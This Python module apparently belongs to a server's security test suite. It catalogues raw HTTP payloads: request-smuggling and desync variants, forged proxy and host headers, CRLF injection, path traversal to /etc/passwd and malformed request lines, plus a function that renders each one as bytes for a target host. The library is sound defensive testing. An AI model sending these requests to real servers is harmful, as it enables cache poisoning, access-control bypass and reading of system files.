"""Requests whose end is a matter of opinion.

Each is complete for whoever reads it in the one way as in the other: then a second
request, for ``{marker}``, either is the body of the first, or begins where the first
has ended. A server that refuses it has no opinion, which is the best.

After J. Kettle, "HTTP Desync Attacks" (2019) and "HTTP/1.1 must die" (2025), and
https://github.com/narfindustries/http-garden; what is right says RFC 9112, sections
5.1 (white space before the colon), 5.2 (folded lines), 6.1 and 6.3 (the length of a
message) and 7.1 (chunks).
"""

from __future__ import annotations

HIDDEN = "GET {marker} HTTP/1.1\r\nHost: {host}\r\n\r\n"
#: A chunked body that is empty, and then what is hidden behind it.
EMPTY_CHUNKS = f"0\r\n\r\n{HIDDEN}"


def _ambiguous(*headers: str, body: str = EMPTY_CHUNKS, first: str = "POST {first}") -> str:
    """A request with a length that covers all of its body, and ``headers`` that say
    something else."""
    lines = [f"{first} HTTP/1.1", "Host: {host}", "Content-Length: {length}", *headers]
    return "\r\n".join([*lines, "", body])


#: By name: ``{length}`` is that of what follows the empty line, ``{chunk}`` the same
#: in hexadecimal.
AMBIGUOUS = {
    "CL.TE": _ambiguous("Transfer-Encoding: chunked"),
    "TE before CL": (
        "POST {first} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n"
        "Content-Length: {length}\r\n\r\n" + EMPTY_CHUNKS
    ),
    "TE.CL": (
        "POST {first} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\n"
        "Transfer-Encoding: chunked\r\n\r\n{chunk_size}\r\n{chunk}\r\n0\r\n\r\n"
    ),
    **{
        f"TE.TE {name}": _ambiguous(*headers)
        for name, headers in {
            "unknown": ["Transfer-Encoding: xchunked"],
            "identity and chunked": ["Transfer-Encoding: identity, chunked"],
            "chunked and identity": ["Transfer-Encoding: chunked, identity"],
            "twice": ["Transfer-Encoding: chunked", "Transfer-Encoding: chunked"],
            "two kinds": ["Transfer-Encoding: chunked", "Transfer-Encoding: cow"],
            "cow first": ["Transfer-Encoding: cow", "Transfer-Encoding: chunked"],
            "upper case": ["TRANSFER-ENCODING: CHUNKED"],
            "quoted": ['Transfer-Encoding: "chunked"'],
            "a tab": ["Transfer-Encoding:\tchunked"],
            "a vertical tab": ["Transfer-Encoding: \x0bchunked"],
            "a space before the colon": ["Transfer-Encoding : chunked"],
            "a space before the name": [" Transfer-Encoding: chunked"],
            "a tab before the colon": ["Transfer-Encoding\t: chunked"],
            "a folded value": ["Transfer-Encoding:", " chunked"],
            "a folded line": ["X: y", " Transfer-Encoding: chunked"],
            "an underscore": ["Transfer_Encoding: chunked"],
            "a bare carriage return": ["X: y\rTransfer-Encoding: chunked"],
            "a bare line feed": ["X: y\nTransfer-Encoding: chunked"],
            "a null": ["Transfer-Encoding: chunked\x00"],
            "a null in the name": ["Transfer-Encoding\x00: chunked"],
            "a comma": ["Transfer-Encoding: ,chunked"],
            "a parameter": ["Transfer-Encoding: chunked;q=1"],
            "nothing": ["Transfer-Encoding:"],
            "hop by hop": ["Transfer-Encoding: chunked", "Connection: Transfer-Encoding"],
        }.items()
    },
    **{
        f"two lengths, {name}": _ambiguous(*headers, body=HIDDEN)
        for name, headers in {
            "none second": ["Content-Length: 0"],
            "in one line": ["Content-Length: 0, {length}"],
            "with a plus": ["Content-Length: +0"],
            "with a minus": ["Content-Length: -1"],
            "in hexadecimal": ["Content-Length: 0x0"],
            "with an underscore": ["Content_Length: 0"],
            "with a space before the colon": ["Content-Length : 0"],
            "folded": ["Content-Length:", " 0"],
            "by a bare line feed": ["X: y\nContent-Length: 0"],
            "empty": ["Content-Length:"],
            "and hop by hop": ["Connection: close, Content-Length"],
        }.items()
    },
    "a length with a space": (
        "POST {first} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0 {length}\r\n\r\n" + HIDDEN
    ),
    "a length with digits of another script": (
        "POST {first} HTTP/1.1\r\nHost: {host}\r\nContent-Length: \u0663\r\n\r\n" + HIDDEN
    ),
    "a length of HTTP/1.0 in chunks": (
        "POST {first} HTTP/1.0\r\nHost: {host}\r\nContent-Length: {length}\r\n"
        "Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n" + EMPTY_CHUNKS
    ),
    "a GET with a body": _ambiguous(first="GET {first}", body=HIDDEN),
    "a HEAD with a body": _ambiguous(first="HEAD {first}", body=HIDDEN),
    "an OPTIONS with a body": _ambiguous(first="OPTIONS {first}", body=HIDDEN),
    "a body that is expected": _ambiguous("Expect: 100-continue", body=HIDDEN),
    "a body that is strangely expected": _ambiguous("Expect: y 100-continue", body=HIDDEN),
    **{
        f"chunks, {name}": (
            "POST {first} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks
        )
        for name, chunks in {
            "an extension": "{chunk_size};a=b\r\n{chunk}\r\n0\r\n\r\n",
            "an extension with a line feed": "{chunk_size};a\n{chunk}\r\n0\r\n\r\n",
            "an extension with a return": "{chunk_size};a\rb\r\n{chunk}\r\n0\r\n\r\n",
            "an empty extension": "{chunk_size};\r\n{chunk}\r\n0\r\n\r\n",
            "a bare line feed after the size": "{chunk_size}\n{chunk}\r\n0\r\n\r\n",
            "a bare line feed after the chunk": "{chunk_size}\r\n{chunk}\n0\r\n\r\n",
            "a size with 0x": "0x{chunk_size}\r\n{chunk}\r\n0\r\n\r\n",
            "a size with a plus": "+{chunk_size}\r\n{chunk}\r\n0\r\n\r\n",
            "a size with an underscore": "0_{chunk_size}\r\n{chunk}\r\n0\r\n\r\n",
            "a size that is too large": "f" * 2_000 + "{chunk_size}\r\n{chunk}\r\n0\r\n\r\n",
            "a negative size": "-{chunk_size}\r\n{chunk}\r\n0\r\n\r\n",
            "a space before the size": " {chunk_size}\r\n{chunk}\r\n0\r\n\r\n",
            "two bytes that are no line end": "{chunk_size}\r\n{chunk}XX0\r\n\r\n",
            "a trailer": "{chunk_size}\r\n{chunk}\r\n0\r\nContent-Length: 0\r\n\r\n",
            "a trailer that is a request": "1\r\nx\r\n0\r\n" + HIDDEN,
        }.items()
    },
    **{
        f"upgrade to {name}": (
            "GET {place} HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade, HTTP2-Settings\r\n"
            "Upgrade: " + protocol + "\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
            "Sec-WebSocket-Version: " + version + "\r\nContent-Length: {length}\r\n"
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nOrigin: {origin}\r\n\r\n" + HIDDEN
        ).replace("{place}", place)
        for name, protocol, version, place in (
            ("h2c", "h2c", "13", "{first}"),
            ("h2c on the socket's path", "h2c", "13", "/live/"),
            ("a wrong version", "websocket", "777", "/live/"),
            ("a wrong version elsewhere", "websocket", "777", "{first}"),
            ("a websocket elsewhere", "websocket", "13", "{first}"),
            ("another case", "WebSocket", "777", "/live/"),
            ("two things", "websocket, h2c", "13", "/live/"),
        )
    },
}


def filled(template: str, *, host: str, origin: str, first: str, marker: str) -> bytes:
    """An attack as bytes, for one address."""
    places = {"host": host, "origin": origin, "first": first, "marker": marker}
    hidden = HIDDEN.format(**places)
    chunk = {"chunk": hidden, "chunk_size": f"{len(hidden):x}"}
    head, separator, body = template.partition("\r\n\r\n")
    filled_body = body.format(**places, **chunk, length="")
    return (head.format(**places, length=len(filled_body)) + separator + filled_body).encode()


#: What only a proxy may say, and what asks for special treatment on the way.
FORGED = (
    "X-Forwarded-For: 203.0.113.9",
    "X-Forwarded-For: 203.0.113.9\r\nX-Forwarded-For: 203.0.113.10",
    "X-Forwarded-For: 203.0.113.9, 127.0.0.1",
    "X-FORWARDED-FOR: 203.0.113.9",
    "X_Forwarded_For: 203.0.113.9",
    "X-Forwarded_For: 203.0.113.9",
    "X-Forwarded-For: ' OR 1=1",
    "X-Forwarded-Port: 1\r\nX-Forwarded-For: ::1",
    "X-Real-IP: 203.0.113.9",
    "Forwarded: for=203.0.113.9;proto=https;host=evil.example",
    "Client-IP: 203.0.113.9",
    "True-Client-IP: 203.0.113.9",
    "X-Forwarded-Proto: https",
    "X_Forwarded_Proto: https",
    "X-Forwarded-Protocol: ssl",
    "X-Forwarded-Ssl: on",
    "X-Forwarded-Scheme: https",
    "Front-End-Https: on",
    "X-Url-Scheme: https",
    "X-Forwarded-Host: evil.example",
    "X-Forwarded-Host: evil.example\r\nX-Forwarded-Server: evil.example",
    "X-Host: evil.example",
    "X-HTTP-Host-Override: evil.example",
    "X-Forwarded-Prefix: /evil",
    "X-Original-URL: /admin/",
    "X-Rewrite-URL: /admin/",
    "X-HTTP-Method-Override: DELETE",
    "Script-Name: /evil",
    "SCRIPT_NAME: /evil",
    "PATH_INFO: /evil",
    "Daphne-Root-Path: /evil",
    "Daphne_Root_Path: /evil",
    "Daphne-Root-Path: //evil.example",
    "Remote-Addr: 203.0.113.9",
    "REMOTE_ADDR: 203.0.113.9",
    "Remote-User: leela",
    "Connection: X-Forwarded-For",
    "Connection: X-Forwarded-Proto, Host, Cookie",
    "Connection: Daphne-Root-Path",
    "Proxy-Connection: keep-alive",
    "Host: {host}",
    "Host : {host}",
    "Host_: evil.example",
    "X: {host}\r\n evil.example",
    "Range: bytes=0-0",
    "Expect: 100-continue",
    "Max-Forwards: 0",
    "X-Long: " + "x" * 7_000,
    "X-Too-Long: " + "x" * 70_000,
    "\r\n".join(f"X-Many-{number}: x" for number in range(600)),
)

#: By name: request lines and hosts that lead astray; ``{host}`` is the right one.
CLAIMS = {
    "another address in the line": "GET http://evil.example/login HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "another host": "GET /login HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "two hosts": "GET /login HTTP/1.1\r\nHost: {host}\r\nHost: evil.example\r\n\r\n",
    "two hosts, the other first": "GET / HTTP/1.1\r\nHost: evil.example\r\nHost: {host}\r\n\r\n",
    "two hosts in one": "GET /login HTTP/1.1\r\nHost: {host}, evil.example\r\n\r\n",
    "a host with a name in front": "GET / HTTP/1.1\r\nHost: evil.example@{host}\r\n\r\n",
    "a host with a path": "GET / HTTP/1.1\r\nHost: {host}/evil.example\r\n\r\n",
    "a host with a foreign port": "GET / HTTP/1.1\r\nHost: 127.0.0.1:evil.example\r\n\r\n",
    "no host": "GET /login HTTP/1.1\r\n\r\n",
    "an empty host": "GET /login HTTP/1.1\r\nHost:\r\n\r\n",
    "no host, HTTP/1.0": "GET /login HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
    "HTTP/0.9": "GET /login\r\n\r\n",
    "HTTP/2.0": "GET /login HTTP/2.0\r\nHost: {host}\r\n\r\n",
    "HTTP/1.9": "GET /login HTTP/1.9\r\nHost: {host}\r\n\r\n",
    "HTTP/x": "GET /login HTTP/x\r\nHost: {host}\r\n\r\n",
    "the preface of HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "two slashes": "GET //evil.example/login HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "two slashes, no end": "GET //evil.example HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "slash and backslash": "GET /\\evil.example/login HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "an encoded slash": "GET /%2Fevil.example/login HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "an encoded line end": "GET /%0d%0aLocation:%20//evil.example HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "an encoded null": "GET /%00 HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "bytes that are no text": "GET /%ff%fe/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "raw bytes": "GET /\xff\xfe/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "raw bytes in the query": "GET /?q=\xff\xfe HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "raw bytes in a header": "GET /login/ HTTP/1.1\r\nHost: {host}\r\nX: \xff\xfe\r\n\r\n",
    "raw bytes in a cookie": "GET / HTTP/1.1\r\nHost: {host}\r\nCookie: sessionid=\xff\r\n\r\n",
    "raw bytes in the root path": (
        "GET / HTTP/1.1\r\nHost: {host}\r\nDaphne-Root-Path: \xff\r\n\r\n"
    ),
    "raw bytes in the address": "GET / HTTP/1.1\r\nHost: {host}\r\nX-Forwarded-For: \xff\r\n\r\n",
    "raw bytes in the method": "G\xffT / HTTP/1.1\r\nHost: {host}\r\n\r\n",
    **{
        f"a charset that is {name}": (
            "POST /csp-report/?q=x HTTP/1.1\r\nHost: {host}\r\nContent-Length: 2\r\n"
            f"Content-Type: application/x-www-form-urlencoded; charset={name}\r\n\r\n{{{{}}}}"
        )
        for name in ("hex", "rot13", "idna", "utf-16", "undefined", "none", "\x7f")
    },
    "an unknown method": "BREW / HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a tunnel": "CONNECT evil.example:443 HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a trace": "TRACE / HTTP/1.1\r\nHost: {host}\r\nCookie: sessionid=secret\r\n\r\n",
    "an asterisk": "OPTIONS * HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "no slash": "GET login HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "dots": "GET /static/../../etc/passwd HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "encoded dots": "GET /static/%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a long line": "GET /" + "x" * 40_000 + " HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "spaces in the line": "GET / HTTP/1.1 HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a null in a header": "GET / HTTP/1.1\r\nHost: {host}\r\nX: a\x00b\r\n\r\n",
    "only line ends": "\r\n\r\n\r\n",
    "TLS": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    "a socket with raw bytes in its path": (
        "GET /live/%ff HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        "Origin: http://{host}\r\n\r\n"
    ),
    "a socket with raw bytes in a protocol": (
        "GET /live/ HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        "Sec-WebSocket-Protocol: \xff\r\nOrigin: http://{host}\r\n\r\n"
    ),
    "a socket with raw bytes in a header": (
        "GET /live/ HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        "X-Forwarded-For: \xff\r\nCookie: sessionid=\xff\r\nOrigin: http://{host}\r\n\r\n"
    ),
    "a socket with a raw root path": (
        "GET /live/ HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        "Daphne-Root-Path: %ff\r\nOrigin: http://{host}\r\n\r\n"
    ),
    "a socket without an origin": (
        "GET /live/ HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x\r\n\r\n"
    ),
}
